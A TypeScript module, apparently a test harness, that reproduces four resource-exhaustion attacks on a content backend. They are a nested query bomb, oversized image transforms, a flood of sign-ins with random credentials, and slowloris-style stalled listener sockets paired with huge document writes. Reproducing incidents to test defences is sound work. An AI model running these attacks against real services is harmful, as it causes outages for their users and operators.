import { connect, type Socket } from 'node:net'
import type { SanityClient } from '@sanity/client'
import sharp from 'sharp'

/** Starts an attack. Returns how to end it. */
export type Attack = () => Promise<() => Promise<void>>

interface Victim {
  readonly url: string
  readonly viewers: readonly SanityClient[]
  readonly editor: SanityClient
  /** The file of a picture that is there. */
  readonly picture: string
  /** A document to write into. */
  readonly documentId: string
}

const bomb = 'count(*[count(*[count(*[count(*[_id != ^._id && _id != ^.^._id && _id != ^.^.^._id]) > 0]) > 0]) > 0])'

export const attackNames = ['query bomb', '24 giant transforms', '60 sign-ins', '20 stuck streams'] as const

/** The four attacks that stopped everybody's work (November 2026). Each is bounded, and hangs up when it is told to end. */
export function attacksOn({ url, viewers, editor, picture, documentId }: Victim): Readonly<Record<string, Attack>> {
  const attacks: Record<(typeof attackNames)[number], Attack> = {
    async 'query bomb'() {
      const { signal, end } = calling()
      const asked = viewers.flatMap((viewer) =>
        [1, 2].map((each) => viewer.fetch(`${bomb} + ${each}`, {}, { signal }).catch(ignored)),
      )
      return end(asked)
    },
    async '24 giant transforms'() {
      const { signal, end } = calling()
      const asked = Array.from({ length: 24 }, (_, each) => {
        const size = 'w=8192&h=8192&fit=scale&fm=avif&dpr=3'
        return ask(`${url}/lake/images/nap1325/production/${picture}?${size}&q=${50 + each}&blur=${100 + each}`, {
          signal,
        })
      })
      return end(asked)
    },
    async '60 sign-ins'() {
      const { signal, end } = calling()
      const asked = Array.from({ length: 60 }, () => {
        const body = new URLSearchParams({
          origin: `${url}/studio`,
          email: `${crypto.randomUUID()}@example.org`,
          password: crypto.randomUUID(),
        })
        return ask(`${url}/lake/v1/auth/login/local`, { method: 'POST', body, headers: { origin: url }, signal })
      })
      return end(asked)
    },
    async '20 stuck streams'() {
      const { hostname, port } = new URL(url)
      const [viewer] = viewers
      const token = viewer?.config().token
      const path = `/lake/v2026-03-01/data/listen/production?query=${encodeURIComponent('*')}&includeResult=true`
      const request = `GET ${path} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nAuthorization: Bearer ${token}\r\n\r\n`
      const sockets = Array.from({ length: 20 }, () => stuck(Number(port), hostname, request))
      const edits = (async () => {
        for (let edit = 0; edit < 40; edit++)
          await editor
            .patch(documentId, { set: { note: `${edit}`.padEnd(500_000, '.') } })
            .commit({ returnDocuments: false })
      })().catch(ignored)
      return async () => {
        await edits
        for (const socket of sockets) socket.destroy()
      }
    },
  }
  return attacks
}

/** What became of what an attacker asked for is of no interest. */
const ignored = () => {}

function calling() {
  const controller = new AbortController()
  return {
    signal: controller.signal,
    end: (asked: readonly Promise<unknown>[]) => async () => {
      controller.abort()
      await Promise.allSettled(asked)
    },
  }
}

const ask = (url: string, init: RequestInit) =>
  fetch(url, { redirect: 'manual', ...init }).then((answer) => answer.arrayBuffer(), ignored)

/** A connection that asks, and never reads. */
function stuck(port: number, host: string, request: string): Socket {
  const socket = connect(port, host, () => socket.write(request))
  return socket.on('error', ignored).pause()
}

/** The file of a picture that costs work: noise, of the size of a photograph. */
export async function uploadPicture(client: SanityClient): Promise<string> {
  const noise = { type: 'gaussian', mean: 128, sigma: 40 } as const
  const create = { width: 1800, height: 1200, channels: 3, background: '#000', noise } as const
  const { url } = await client.assets.upload('image', await sharp({ create }).jpeg().toBuffer())
  return url.split('/').at(-1) ?? ''
}
